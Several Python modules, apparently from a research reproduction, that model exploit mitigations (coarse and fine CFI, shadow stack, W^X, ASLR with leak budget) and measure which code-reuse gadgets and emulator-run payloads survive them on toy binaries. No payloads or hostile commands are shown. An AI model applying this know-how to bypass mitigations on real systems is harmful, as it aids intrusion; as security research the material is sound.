def format_defense_matrix(doc: Dict) -> str:
    """Fixed-width table for a ``BENCH_defenses.json`` document."""
    header = (
        f"{'program':<14}{'config':<10}{'policy':<14}{'surviving':>10}"
        f"{'of':>7}{'payloads':>9}{'blocked':>8}{'leaks':>6}"
    )
    lines = [header, "-" * len(header)]
    for entry in doc["entries"]:
        lines.append(
            f"{entry['program']:<14}{entry['config']:<10}{entry['policy']:<14}"
            f"{entry['surviving']:>10}{entry['pool_size']:>7}"
            f"{entry['payloads']:>9}{entry['blocked_by_defense']:>8}"
            f"{entry.get('leaks_used', 0):>6}"
        )
    return "\n".join(lines)


def format_defense_census(doc: Dict, title: str = "") -> str:
    """Fixed-width table for one image's :func:`defense_census` result."""
    lines: List[str] = []
    if title:
        lines.append(title)
    lines.append(
        f"{'policy':<14}{'surviving':>10}{'of':>7}{'ratio':>8}"
        f"{'cfi-killed':>12}{'shadow-killed':>15}"
    )
    for row in doc["policies"]:
        lines.append(
            f"{row['policy']:<14}{row['surviving']:>10}{row['pool_size']:>7}"
            f"{row['survival_ratio']:>8.2f}{row['killed_cfi']:>12}"
            f"{row['killed_shadow_stack']:>15}"
        )
    return "\n".join(lines)
