"""CFI target sets derived from the recovered control-flow graph.

Both CFI granularities are *label sets over addresses*: a policy check
asks "may a transfer of kind K land at address A?".  The sets come from
the same recursive-traversal CFG (:func:`repro.analysis.cfg.recover_cfg`)
the extractor's aligned probing uses — i.e. the defender's static view
of the binary, built from the obfuscated artifact itself:

* ``aligned`` — every recovered instruction boundary.  Coarse-grained
  CFI (kBouncer/ROPecker class) accepts any of these for any indirect
  transfer: it kills the *unaligned* gadgets obfuscation multiplies,
  but keeps every aligned one.
* ``return_sites`` — addresses immediately following a ``call``
  (direct or indirect).  Fine-grained backward-edge CFI restricts
  ``ret`` to these.
* ``entries`` — function entries (in-text symbols plus the image
  entry).  Fine-grained forward-edge CFI restricts indirect
  jumps/calls to these.

Transfers that leave the text section (into the stack, heap, or a
fresh ``mmap``) are CFI violations under either granularity — the CFG
gives the defender no label there.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import FrozenSet, Optional

from ..analysis.cfg import recover_cfg
from ..binfmt.image import BinaryImage
from ..isa.instructions import Op
from ..staticanalysis.decode_graph import DecodeGraph
from .policy import CFIMode

#: Kinds of indirect control transfer a CFI check distinguishes.
KIND_RET = "ret"
KIND_JUMP = "jump"
KIND_CALL = "call"


@dataclass(frozen=True)
class CFITargets:
    """The defender's valid-target sets for one image."""

    aligned: FrozenSet[int]
    return_sites: FrozenSet[int]
    entries: FrozenSet[int]

    @classmethod
    def build(
        cls, image: BinaryImage, graph: Optional[DecodeGraph] = None
    ) -> "CFITargets":
        """Derive the target sets from the image's recovered CFG.

        Pass the extraction pipeline's :class:`DecodeGraph` to reuse its
        decode cache; the resulting sets are identical either way.
        """
        decoder = graph.decode_addr if graph is not None else None
        cfg = recover_cfg(image, decoder=decoder)
        aligned = set()
        return_sites = set()
        for block in cfg.blocks.values():
            for insn in block.instructions:
                aligned.add(insn.addr)
                if insn.op in (Op.CALL_REL, Op.CALL_R):
                    return_sites.add(insn.end)
        entries = set(cfg.entries)
        # Entries and return sites are instruction boundaries by
        # construction; keep ``aligned`` a superset even when recovery
        # missed a block (e.g. a call-fallthrough never decoded).
        aligned |= return_sites | entries
        return cls(
            aligned=frozenset(aligned),
            return_sites=frozenset(return_sites),
            entries=frozenset(entries),
        )

    def valid_target(self, mode: CFIMode, kind: str, target: int) -> bool:
        """May a transfer of ``kind`` land at ``target`` under ``mode``?"""
        if mode is CFIMode.OFF:
            return True
        if mode is CFIMode.COARSE:
            return target in self.aligned
        if kind == KIND_RET:
            return target in self.return_sites
        return target in self.entries

    def fine_reachable(self, target: int) -> bool:
        """Is ``target`` a valid landing point for *any* transfer kind
        under fine-grained CFI?  (The necessary condition the gadget
        filter uses: a chain position for the gadget may still exist.)
        """
        return target in self.return_sites or target in self.entries
