"""Policy enforcement in the concrete emulator — the ground-truth layer.

A :class:`PolicyEnforcer` attaches to an :class:`~repro.emulator.cpu.Emulator`
through two existing hook points:

* ``Emulator.step_hook`` — inspects every instruction *before* it
  executes; indirect control transfers (``ret``, ``jmp reg``,
  ``jmp [mem]``, ``call reg``) have their concrete target peeked from
  registers/stack/memory and checked against the policy's CFI target
  sets and the shadow stack.  A violation raises
  :class:`DefenseViolation`, modelling the process kill a hardware or
  instrumentation CFI monitor performs.
* ``SyscallHandler.syscall_filter`` — vetoes W^X-violating
  ``mprotect``/``mmap`` requests with ``-EACCES``, modelling an
  mprotect-hooking kernel module: the guest sees the error and keeps
  running (denials are recorded, not fatal).

ASLR is enforced on the payload, not per instruction: without a leak
the attacker's absolute addresses are wrong, which
:func:`validate_payload_with_policy` models by sliding every payload
word that points into the image by a fixed nonzero delta before
injection.  With ``leak_budget`` remaining, one leak-oracle query is
consumed and the payload runs unmodified.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Tuple

from ..binfmt.image import BinaryImage
from ..emulator.cpu import Emulator
from ..emulator.memory import PAGE_SIZE, PERM_R, PERM_W
from ..emulator.syscalls import (
    AttackTriggered,
    PROT_EXEC,
    PROT_WRITE,
    Sys,
    SyscallEvent,
)
from ..isa.instructions import Instruction, Op
from ..isa.registers import ALL_REGS, MASK64, Reg
from ..obs import metrics, span
from .cfi import CFITargets, KIND_CALL, KIND_JUMP, KIND_RET
from .policy import CFIMode, DefensePolicy

_EACCES = -13 & ((1 << 64) - 1)

#: The deterministic wrong-guess delta for un-leaked ASLR payloads:
#: page-aligned and small enough to stay inside the 64-bit space.
ASLR_SLIDE = 0x10000


class DefenseViolation(Exception):
    """A mitigation detected the attack and killed the process."""

    def __init__(self, policy: str, kind: str, detail: str, addr: Optional[int] = None):
        super().__init__(f"[{policy}] {kind}: {detail}")
        self.policy = policy
        self.kind = kind  # "cfi" | "shadow_stack"
        self.detail = detail
        self.addr = addr


class PolicyEnforcer:
    """Checks one :class:`DefensePolicy` over a concrete execution."""

    def __init__(
        self,
        policy: DefensePolicy,
        targets: Optional[CFITargets] = None,
        *,
        image: Optional[BinaryImage] = None,
    ) -> None:
        if policy.cfi is not CFIMode.OFF and targets is None:
            if image is None:
                raise ValueError("CFI enforcement needs CFITargets or the image")
            targets = CFITargets.build(image)
        self.policy = policy
        self.targets = targets
        self.shadow: List[int] = []
        self.checks = 0
        self.denied_syscalls: List[Tuple[Sys, tuple]] = []
        self._emu: Optional[Emulator] = None

    # -- wiring -----------------------------------------------------------

    def install(self, emu: Emulator) -> "PolicyEnforcer":
        """Attach to an emulator's step and syscall hooks."""
        self._emu = emu
        emu.step_hook = self.step_hook
        emu.syscalls.syscall_filter = self.syscall_filter
        return self

    # -- control-transfer checks ------------------------------------------

    def _check_cfi(self, kind: str, target: int) -> None:
        if self.policy.cfi is CFIMode.OFF:
            return
        assert self.targets is not None
        self.checks += 1
        if not self.targets.valid_target(self.policy.cfi, kind, target):
            metrics().counter("defense.cfi_violations").inc()
            raise DefenseViolation(
                self.policy.name,
                "cfi",
                f"{self.policy.cfi.value} CFI rejects {kind} to {target:#x}",
                addr=target,
            )

    def step_hook(self, emu: Emulator, insn: Instruction) -> None:
        op = insn.op
        if op is Op.RET:
            target = emu.memory.read_u64(emu.cpu.get(Reg.RSP))
            self._check_cfi(KIND_RET, target)
            if self.policy.shadow_stack:
                self.checks += 1
                if not self.shadow or self.shadow[-1] != target:
                    metrics().counter("defense.shadow_violations").inc()
                    expected = f"{self.shadow[-1]:#x}" if self.shadow else "<empty>"
                    raise DefenseViolation(
                        self.policy.name,
                        "shadow_stack",
                        f"ret to {target:#x}, shadow stack holds {expected}",
                        addr=target,
                    )
                self.shadow.pop()
        elif op is Op.JMP_R:
            self._check_cfi(KIND_JUMP, emu.cpu.get(insn.dst))
        elif op is Op.JMP_M:
            addr = (emu.cpu.get(insn.base) + insn.disp) & MASK64
            self._check_cfi(KIND_JUMP, emu.memory.read_u64(addr))
        elif op is Op.CALL_R:
            self._check_cfi(KIND_CALL, emu.cpu.get(insn.dst))
            if self.policy.shadow_stack:
                self.shadow.append(insn.end)
        elif op is Op.CALL_REL:
            if self.policy.shadow_stack:
                self.shadow.append(insn.end)

    # -- syscall checks ----------------------------------------------------

    def syscall_filter(self, sys_no: Sys, args: tuple) -> Optional[int]:
        if not self.policy.wx:
            return None
        if sys_no is Sys.MPROTECT:
            addr, length, prot = args[0], args[1], args[2]
            if not prot & PROT_EXEC:
                return None
            if prot & PROT_WRITE:
                return self._deny(sys_no, args, "W+X mprotect request")
            if self._emu is not None and self._any_page_writable(addr, length):
                return self._deny(sys_no, args, "mprotect +X on writable pages")
        elif sys_no is Sys.MMAP and self.policy.wx_strict_mmap:
            prot = args[2]
            if prot & PROT_EXEC and prot & PROT_WRITE:
                return self._deny(sys_no, args, "W+X mmap request")
        return None

    def _any_page_writable(self, addr: int, length: int) -> bool:
        assert self._emu is not None
        memory = self._emu.memory
        cursor = addr
        end = addr + max(length, 1)
        while cursor < end:
            if memory.perms_at(cursor) & PERM_W:
                return True
            cursor += PAGE_SIZE
        return False

    def _deny(self, sys_no: Sys, args: tuple, reason: str) -> int:
        self.denied_syscalls.append((sys_no, args[:3]))
        metrics().counter("defense.syscalls_denied").inc()
        return _EACCES


def enforced_emulator(
    image: BinaryImage,
    policy: DefensePolicy,
    *,
    targets: Optional[CFITargets] = None,
    stop_on_attack: bool = True,
    step_limit: int = 2_000_000,
) -> Tuple[Emulator, PolicyEnforcer]:
    """An emulator for ``image`` with ``policy`` hooks installed."""
    emu = Emulator(image, stop_on_attack=stop_on_attack, step_limit=step_limit)
    enforcer = PolicyEnforcer(policy, targets, image=image)
    enforcer.install(emu)
    return emu, enforcer


# ---------------------------------------------------------------------------
# Enforced payload validation
# ---------------------------------------------------------------------------


@dataclass
class EnforcedRun:
    """The outcome of one payload execution under a policy."""

    ok: bool
    outcome: str  # "attack" | "cfi" | "shadow_stack" | "crash" | "no_attack"
    event: Optional[SyscallEvent] = None
    violation: Optional[str] = None
    denied_syscalls: int = 0
    leaks_used: int = 0
    cfi_checks: int = 0
    slide_applied: int = 0


def _slide_image_words(payload_words, image: BinaryImage, slide: int):
    """Shift every payload word that points into an image section.

    Models an un-leaked ASLR guess: the attacker baked in addresses for
    the non-randomized layout, the loader put the image ``slide`` bytes
    away, so every absolute pointer (gadget addresses *and* data
    addresses) misses by ``-slide``.
    """
    spans = [
        (s.addr, s.addr + max(len(s.data), 1)) for s in image.sections
    ]

    def in_image(word: int) -> bool:
        return any(lo <= word < hi for lo, hi in spans)

    return [
        (w + slide) & MASK64 if in_image(w) else w for w in payload_words
    ]


def validate_payload_with_policy(
    image: BinaryImage,
    payload,
    resolved,
    policy: DefensePolicy,
    *,
    targets: Optional[CFITargets] = None,
    step_limit: int = 500_000,
) -> EnforcedRun:
    """Run ``payload`` against ``image`` with ``policy`` enforced.

    Mirrors :func:`repro.planner.payload.validate_payload` (same threat
    model, stack placement, and goal matching) with the policy hooks
    installed and the ASLR knowledge model applied to the injected
    words.  Does not mutate ``payload.validated``.
    """
    from ..planner.payload import JUNK_REGION, _event_matches

    with span("defense.enforce") as sp:
        leaks_used = 0
        words = list(payload.words)
        entry = payload.entry_address
        slide_applied = 0
        if policy.aslr:
            if policy.leak_budget >= 1:
                leaks_used = 1
            else:
                words = _slide_image_words(words, image, ASLR_SLIDE)
                entry = (entry + ASLR_SLIDE) & MASK64
                slide_applied = ASLR_SLIDE

        emu = Emulator(image, stop_on_attack=True, step_limit=step_limit)
        emu.memory.map(JUNK_REGION, 0x2000, PERM_R | PERM_W)
        if "__sm_start" in image.symbols:
            resume = image.symbols.get("_start", image.entry)
            emu.cpu.rip = image.symbols["__sm_start"]
            try:
                while emu.cpu.rip != resume and emu.steps < step_limit:
                    emu.step()
            except Exception:
                return EnforcedRun(ok=False, outcome="crash", leaks_used=leaks_used)

        # Mitigations watch the run only from the moment of diversion:
        # the decoder stub above is legitimate program execution.
        enforcer = PolicyEnforcer(policy, targets, image=image)
        enforcer.install(emu)

        for reg in ALL_REGS:
            if reg is not Reg.RSP:
                emu.cpu.set(reg, JUNK_REGION + 0x800)
        base = emu.cpu.get(Reg.RSP)
        import struct

        blob = b"".join(struct.pack("<Q", w & MASK64) for w in words)
        try:
            emu.memory.write(base, blob)
        except Exception:
            return EnforcedRun(ok=False, outcome="crash", leaks_used=leaks_used)
        emu.cpu.set(Reg.RSP, base + 8)
        emu.cpu.rip = entry

        try:
            while True:
                emu.step()
        except AttackTriggered as attack:
            matched = _event_matches(attack.event, resolved)
            sp.add("attacks" if matched else "misses")
            sp.add("cfi_checks", enforcer.checks)
            return EnforcedRun(
                ok=matched,
                outcome="attack" if matched else "no_attack",
                event=attack.event,
                denied_syscalls=len(enforcer.denied_syscalls),
                leaks_used=leaks_used,
                cfi_checks=enforcer.checks,
                slide_applied=slide_applied,
            )
        except DefenseViolation as violation:
            sp.add("violations")
            sp.add("cfi_checks", enforcer.checks)
            return EnforcedRun(
                ok=False,
                outcome=violation.kind,
                violation=str(violation),
                denied_syscalls=len(enforcer.denied_syscalls),
                leaks_used=leaks_used,
                cfi_checks=enforcer.checks,
                slide_applied=slide_applied,
            )
        except Exception:
            sp.add("crashes")
            return EnforcedRun(
                ok=False,
                outcome="crash",
                denied_syscalls=len(enforcer.denied_syscalls),
                leaks_used=leaks_used,
                cfi_checks=enforcer.checks,
                slide_applied=slide_applied,
            )
