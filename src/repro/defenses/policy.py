"""Mitigation policies — which deployed defenses the target enables.

A :class:`DefensePolicy` is a frozen description of the mitigations a
victim process runs under.  It is consumed at three layers:

* **enforcement** — :mod:`repro.defenses.enforce` checks every control
  transfer and attack-relevant syscall of a concrete run against the
  policy (the ground truth layer: a payload only counts as surviving a
  policy if it *executes* under it);
* **filtering** — :mod:`repro.defenses.survive` marks each gadget
  record as CFI-valid / shadow-stack-safe, so the census can report the
  *surviving* attack surface per defense × obfuscation;
* **planning** — :class:`repro.planner.GadgetPlanner` accepts a policy
  and only chains surviving gadgets, inserting a leak step when ASLR is
  on.

The models (documented per knob below) follow the deployed shapes the
literature evaluates, not idealized ones:

* ``cfi=coarse`` — any recovered instruction boundary is a valid
  indirect-transfer target (kBouncer/ROPecker-class coarse CFI: kills
  unaligned gadgets, keeps aligned ones);
* ``cfi=fine`` — returns must target call-preceded return sites and
  indirect jumps/calls must target function entries (forward+backward
  fine-grained CFI derived from the recovered CFG);
* ``shadow_stack`` — call/ret pairing is enforced; the initial
  diversion is modelled as a corrupted forward transfer (function
  pointer), so the chain starts with an empty shadow frame and every
  ``ret`` executed by the chain must match a call the chain itself made;
* ``wx`` — ``mprotect`` may not make writable memory executable
  (``-EACCES``), and execution from non-X pages faults.  Fresh
  ``mmap(PROT_WRITE|PROT_EXEC)`` is allowed unless ``wx_strict_mmap``
  is set — the mprotect-hooking deployment the paper's mmap attack
  family targets;
* ``aslr`` — the image base is randomized from the attacker's point of
  view.  ``leak_budget`` leak-oracle queries are available; a payload
  needs (and consumes) one to learn the slide, otherwise its absolute
  addresses miss.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, replace
from typing import Dict, Tuple


class CFIMode(enum.Enum):
    """Granularity of the control-flow-integrity model."""

    OFF = "off"
    COARSE = "coarse"
    FINE = "fine"


@dataclass(frozen=True)
class DefensePolicy:
    """One combination of deployed mitigations."""

    name: str = "none"
    cfi: CFIMode = CFIMode.OFF
    shadow_stack: bool = False
    wx: bool = False
    wx_strict_mmap: bool = False
    aslr: bool = False
    leak_budget: int = 0

    @property
    def enabled(self) -> bool:
        """Does this policy constrain anything at all?"""
        return (
            self.cfi is not CFIMode.OFF
            or self.shadow_stack
            or self.wx
            or self.aslr
        )

    def describe(self) -> str:
        parts = []
        if self.cfi is not CFIMode.OFF:
            parts.append(f"cfi={self.cfi.value}")
        if self.shadow_stack:
            parts.append("shadow-stack")
        if self.wx:
            parts.append("w^x" + ("(strict-mmap)" if self.wx_strict_mmap else ""))
        if self.aslr:
            parts.append(f"aslr(leaks={self.leak_budget})")
        return f"{self.name}[{', '.join(parts) or 'no defenses'}]"

    def __str__(self) -> str:
        return self.name


#: The named single-mitigation policies plus the deployed-stack combo.
POLICIES: Dict[str, DefensePolicy] = {
    p.name: p
    for p in (
        DefensePolicy(name="none"),
        DefensePolicy(name="coarse_cfi", cfi=CFIMode.COARSE),
        DefensePolicy(name="fine_cfi", cfi=CFIMode.FINE),
        DefensePolicy(name="shadow_stack", shadow_stack=True),
        DefensePolicy(name="wx", wx=True),
        DefensePolicy(name="wx_strict", wx=True, wx_strict_mmap=True),
        DefensePolicy(name="aslr", aslr=True),
        DefensePolicy(name="aslr_leak", aslr=True, leak_budget=1),
        DefensePolicy(
            name="full",
            cfi=CFIMode.COARSE,
            shadow_stack=True,
            wx=True,
            aslr=True,
            leak_budget=1,
        ),
    )
}

#: The census/benchmark default: unprotected baseline + the three
#: mitigation families the paper's attack surface question is about.
DEFAULT_CENSUS_POLICIES: Tuple[str, ...] = (
    "none",
    "coarse_cfi",
    "fine_cfi",
    "shadow_stack",
    "wx",
    "aslr_leak",
)


def parse_policy(spec: str) -> DefensePolicy:
    """Parse ``"name"`` or a ``+``-combination like ``"coarse_cfi+wx"``.

    Combinations merge left to right (the strictest setting of each
    knob wins) and are named after the spec string itself.
    """
    spec = spec.strip()
    if spec in POLICIES:
        return POLICIES[spec]
    parts = [p for p in spec.split("+") if p]
    if not parts:
        raise ValueError("empty defense policy spec")
    merged = DefensePolicy(name=spec)
    for part in parts:
        try:
            piece = POLICIES[part]
        except KeyError:
            raise ValueError(
                f"unknown defense policy {part!r}; choose from {sorted(POLICIES)}"
            ) from None
        merged = replace(
            merged,
            cfi=piece.cfi if piece.cfi is not CFIMode.OFF else merged.cfi,
            shadow_stack=merged.shadow_stack or piece.shadow_stack,
            wx=merged.wx or piece.wx,
            wx_strict_mmap=merged.wx_strict_mmap or piece.wx_strict_mmap,
            aslr=merged.aslr or piece.aslr,
            leak_budget=max(merged.leak_budget, piece.leak_budget),
        )
    return merged
