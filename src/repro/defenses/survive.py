"""Gadget survival under a defense policy — the filtering layer.

:func:`gadget_survives` is a *necessary* condition: it keeps a gadget
only if some chain position could legally use it under the policy.  It
deliberately over-approximates — the enforcement layer
(:mod:`repro.defenses.enforce`) is the precise check a finished payload
must still pass — so "surviving gadgets" upper-bounds the residual
attack surface, the quantity the census reports per defense ×
obfuscation.

Per mitigation:

* **coarse CFI** — the gadget's entry must be a recovered instruction
  boundary.  This is exactly the aligned/unaligned split: obfuscation's
  unaligned bonus gadgets die, its aligned blow-up survives.
* **fine CFI** — the gadget's entry must carry *some* fine-grained
  label (a call-preceded return site, or a function entry for the
  initial corrupted forward transfer).
* **shadow stack** — the diversion is a corrupted forward transfer, so
  the chain starts with an empty shadow frame: any gadget *ending* in
  ``ret`` would pop an empty (or mismatched) shadow stack.  Only
  jump-/call-/syscall-terminated gadgets survive (the JOP residue).
* **W^X / ASLR** — no per-gadget effect: W^X constrains syscalls and
  page permissions, ASLR constrains the attacker's knowledge of
  addresses.  Both bite at enforcement/planning time.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

from ..binfmt.image import BinaryImage
from ..gadgets.record import GadgetRecord
from ..obs import metrics, span
from ..staticanalysis.decode_graph import DecodeGraph
from ..symex.executor import EndKind
from .cfi import CFITargets
from .policy import CFIMode, DefensePolicy


def gadget_survives(
    policy: DefensePolicy,
    record: GadgetRecord,
    targets: Optional[CFITargets] = None,
) -> bool:
    """Could any chain position legally use ``record`` under ``policy``?

    ``targets`` is required when the policy enables CFI (the check is
    image-relative); pass the :class:`CFITargets` built for the record's
    image.
    """
    if policy.cfi is not CFIMode.OFF:
        if targets is None:
            raise ValueError("CFI survival needs the image's CFITargets")
        if policy.cfi is CFIMode.COARSE:
            if record.location not in targets.aligned:
                return False
        elif not targets.fine_reachable(record.location):
            return False
    if policy.shadow_stack and record.end is EndKind.RET:
        return False
    return True


@dataclass
class SurvivalCensus:
    """Surviving-pool accounting for one (image, policy) pair."""

    policy: str
    pool_size: int = 0
    surviving: int = 0
    killed_cfi: int = 0
    killed_shadow_stack: int = 0
    by_jmp_type: Dict[str, int] = field(default_factory=dict)

    @property
    def survival_ratio(self) -> float:
        return self.surviving / self.pool_size if self.pool_size else 0.0

    def to_dict(self) -> Dict:
        return {
            "policy": self.policy,
            "pool_size": self.pool_size,
            "surviving": self.surviving,
            "survival_ratio": round(self.survival_ratio, 4),
            "killed_cfi": self.killed_cfi,
            "killed_shadow_stack": self.killed_shadow_stack,
            "by_jmp_type": dict(sorted(self.by_jmp_type.items())),
        }


def filter_pool(
    policy: DefensePolicy,
    records: Sequence[GadgetRecord],
    *,
    image: Optional[BinaryImage] = None,
    targets: Optional[CFITargets] = None,
    graph: Optional[DecodeGraph] = None,
    census: Optional[SurvivalCensus] = None,
) -> List[GadgetRecord]:
    """The pool's survivors under ``policy``, in original order.

    A pure post-filter: the input pool (and anything cached by
    :mod:`repro.pipeline`) is never mutated, and with a no-op policy the
    very same list object comes back.  Builds :class:`CFITargets` from
    ``image`` on demand when CFI is enabled and none were passed.
    """
    if not policy.enabled or (
        policy.cfi is CFIMode.OFF and not policy.shadow_stack
    ):
        if census is not None:
            census.pool_size = len(records)
            census.surviving = len(records)
            for record in records:
                census.by_jmp_type[record.jmp_type.value] = (
                    census.by_jmp_type.get(record.jmp_type.value, 0) + 1
                )
        return list(records) if not isinstance(records, list) else records

    if policy.cfi is not CFIMode.OFF and targets is None:
        if image is None:
            raise ValueError("CFI filtering needs the image or its CFITargets")
        targets = CFITargets.build(image, graph)

    counters = metrics()
    survivors: List[GadgetRecord] = []
    with span("defense.filter") as sp:
        for record in records:
            if policy.cfi is not CFIMode.OFF:
                assert targets is not None
                if policy.cfi is CFIMode.COARSE:
                    cfi_ok = record.location in targets.aligned
                else:
                    cfi_ok = targets.fine_reachable(record.location)
                if not cfi_ok:
                    if census is not None:
                        census.killed_cfi += 1
                    counters.counter("defense.gadgets_killed_cfi").inc()
                    continue
            if policy.shadow_stack and record.end is EndKind.RET:
                if census is not None:
                    census.killed_shadow_stack += 1
                counters.counter("defense.gadgets_killed_shadow").inc()
                continue
            survivors.append(record)
            if census is not None:
                census.by_jmp_type[record.jmp_type.value] = (
                    census.by_jmp_type.get(record.jmp_type.value, 0) + 1
                )
        sp.add("pool", len(records))
        sp.add("surviving", len(survivors))
    counters.counter("defense.gadgets_surviving").inc(len(survivors))
    if census is not None:
        census.pool_size = len(records)
        census.surviving = len(survivors)
    return survivors
