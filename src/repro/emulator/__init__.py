"""Concrete execution: memory, CPU, syscall models."""

from .cpu import (
    COND_PREDICATES,
    CPUState,
    DivideError,
    Emulator,
    EmulatorError,
    InvalidInstruction,
    StepLimitExceeded,
    run_image,
)
from .memory import Memory, MemoryFault, PAGE_SIZE, PERM_R, PERM_W, PERM_X, Region
from .syscalls import AttackTriggered, ProcessExit, Sys, SyscallEvent, SyscallHandler

__all__ = [
    "AttackTriggered",
    "COND_PREDICATES",
    "CPUState",
    "DivideError",
    "Emulator",
    "EmulatorError",
    "InvalidInstruction",
    "Memory",
    "MemoryFault",
    "PAGE_SIZE",
    "PERM_R",
    "PERM_W",
    "PERM_X",
    "ProcessExit",
    "Region",
    "StepLimitExceeded",
    "Sys",
    "SyscallEvent",
    "SyscallHandler",
    "run_image",
]
