"""Concrete CPU for the NFL machine.

The emulator serves two roles in the reproduction:

1. running compiled benchmark programs end-to-end (so the mini-C
   compiler and the obfuscation passes can be validated as
   *semantics-preserving*), and
2. executing attacker payloads produced by the planner against the
   vulnerable binaries, asserting that the chain really reaches the
   goal syscall — the ground truth every payload count in the
   evaluation is measured against.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from ..binfmt.image import BinaryImage, STACK_SIZE, STACK_TOP
from ..isa.encoding import DecodeError, decode
from ..isa.instructions import Instruction, Op
from ..isa.registers import ALL_REGS, Flag, MASK64, Reg, to_signed
from ..obs import span
from .memory import Memory, MemoryFault, PERM_R, PERM_W, PERM_X
from .syscalls import AttackTriggered, ProcessExit, SyscallHandler

MAX_DECODE_SIZE = 16


class EmulatorError(Exception):
    """Base class for guest execution failures."""


class InvalidInstruction(EmulatorError):
    """The guest jumped into bytes that do not decode."""


class DivideError(EmulatorError):
    """Unsigned division by zero."""


class StepLimitExceeded(EmulatorError):
    """The instruction budget ran out (likely an infinite loop)."""


@dataclass
class CPUState:
    """Architectural state: registers, flags, instruction pointer."""

    regs: Dict[Reg, int] = field(default_factory=lambda: {r: 0 for r in ALL_REGS})
    flags: Dict[Flag, bool] = field(default_factory=lambda: {f: False for f in Flag})
    rip: int = 0

    def get(self, reg: Reg) -> int:
        return self.regs[reg]

    def set(self, reg: Reg, value: int) -> None:
        self.regs[reg] = value & MASK64


def _flags_logic(result: int) -> Dict[Flag, bool]:
    result &= MASK64
    return {
        Flag.ZF: result == 0,
        Flag.SF: bool(result >> 63),
        Flag.CF: False,
        Flag.OF: False,
    }


def _flags_add(a: int, b: int, result: int) -> Dict[Flag, bool]:
    result_m = result & MASK64
    sa, sb, sr = a >> 63, b >> 63, result_m >> 63
    return {
        Flag.ZF: result_m == 0,
        Flag.SF: bool(sr),
        Flag.CF: result > MASK64,
        Flag.OF: sa == sb and sa != sr,
    }


def _flags_sub(a: int, b: int) -> Dict[Flag, bool]:
    result_m = (a - b) & MASK64
    sa, sb, sr = a >> 63, b >> 63, result_m >> 63
    return {
        Flag.ZF: result_m == 0,
        Flag.SF: bool(sr),
        Flag.CF: a < b,
        Flag.OF: sa != sb and sa != sr,
    }


#: Condition predicates for the Jcc family, shared with documentation:
#: signed comparisons use SF/OF/ZF, unsigned use CF/ZF — as on x86.
COND_PREDICATES = {
    Op.JE: lambda f: f[Flag.ZF],
    Op.JNE: lambda f: not f[Flag.ZF],
    Op.JL: lambda f: f[Flag.SF] != f[Flag.OF],
    Op.JLE: lambda f: f[Flag.ZF] or (f[Flag.SF] != f[Flag.OF]),
    Op.JG: lambda f: (not f[Flag.ZF]) and f[Flag.SF] == f[Flag.OF],
    Op.JGE: lambda f: f[Flag.SF] == f[Flag.OF],
    Op.JB: lambda f: f[Flag.CF],
    Op.JBE: lambda f: f[Flag.CF] or f[Flag.ZF],
    Op.JA: lambda f: (not f[Flag.CF]) and (not f[Flag.ZF]),
    Op.JAE: lambda f: not f[Flag.CF],
    Op.JS: lambda f: f[Flag.SF],
    Op.JNS: lambda f: not f[Flag.SF],
}


class Emulator:
    """A concrete interpreter for NFL binaries."""

    def __init__(
        self,
        image: BinaryImage,
        *,
        stop_on_attack: bool = True,
        step_limit: int = 2_000_000,
        trace: bool = False,
        step_hook: Optional[Callable[["Emulator", Instruction], None]] = None,
    ) -> None:
        self.image = image
        self.memory = Memory()
        self.cpu = CPUState()
        self.step_limit = step_limit
        self.steps = 0
        self.trace_enabled = trace
        self.trace: List[Instruction] = []
        #: Profiling hook: called as ``hook(emulator, insn)`` before
        #: each instruction executes.  ``None`` (the default) costs one
        #: attribute check per step; profilers/coverage tools install a
        #: callable without subclassing the emulator.
        self.step_hook = step_hook
        for sec in image.sections:
            perms = PERM_R
            if sec.writable:
                perms |= PERM_W
            if sec.executable:
                perms |= PERM_X
            self.memory.map(sec.addr, max(len(sec.data), 1), perms)
            if sec.data:
                self.memory.write_initial(sec.addr, sec.data)
        self.memory.map(STACK_TOP - STACK_SIZE, STACK_SIZE, PERM_R | PERM_W)
        # Leave headroom above the initial rsp: overflow payloads (and
        # the environment/argv area on a real Linux stack) live there.
        self.cpu.set(Reg.RSP, STACK_TOP - 0x20000)
        self.cpu.rip = image.entry
        self.syscalls = SyscallHandler(self.memory, stop_on_attack=stop_on_attack)
        # Decoded-instruction cache, invalidated when executable pages
        # are written (self-modifying code bumps exec_write_gen).
        self._insn_cache: Dict[int, Instruction] = {}
        self._cache_gen = self.memory.exec_write_gen

    # -- stack helpers -----------------------------------------------------

    def push(self, value: int) -> None:
        rsp = (self.cpu.get(Reg.RSP) - 8) & MASK64
        self.cpu.set(Reg.RSP, rsp)
        self.memory.write_u64(rsp, value)

    def pop(self) -> int:
        rsp = self.cpu.get(Reg.RSP)
        value = self.memory.read_u64(rsp)
        self.cpu.set(Reg.RSP, (rsp + 8) & MASK64)
        return value

    # -- execution ----------------------------------------------------------

    def fetch(self) -> Instruction:
        rip = self.cpu.rip
        if self._cache_gen != self.memory.exec_write_gen:
            self._insn_cache.clear()
            self._cache_gen = self.memory.exec_write_gen
        cached = self._insn_cache.get(rip)
        if cached is not None:
            return cached
        try:
            window = self.memory.read(rip, MAX_DECODE_SIZE, execute=True)
        except MemoryFault:
            # Near a mapping edge: fall back to byte-at-a-time.
            window = bytearray()
            for i in range(MAX_DECODE_SIZE):
                try:
                    window += self.memory.read(rip + i, 1, execute=True)
                except MemoryFault:
                    break
            window = bytes(window)
        if not window:
            raise InvalidInstruction(f"fetch from non-executable memory at {rip:#x}")
        try:
            insn = decode(window, 0, addr=rip)
        except DecodeError as exc:
            raise InvalidInstruction(str(exc)) from None
        self._insn_cache[rip] = insn
        return insn

    def step(self) -> None:
        """Execute one instruction."""
        if self.steps >= self.step_limit:
            raise StepLimitExceeded(f"exceeded {self.step_limit} steps")
        self.steps += 1
        insn = self.fetch()
        if self.trace_enabled:
            self.trace.append(insn)
        if self.step_hook is not None:
            self.step_hook(self, insn)
        self._execute(insn)

    def run(self) -> int:
        """Run until exit; returns the exit status.

        :class:`AttackTriggered` propagates to the caller when
        ``stop_on_attack`` is set — exploit validation catches it.
        """
        try:
            while True:
                self.step()
        except ProcessExit as exit_exc:
            return exit_exc.status

    def run_catching_attack(self):
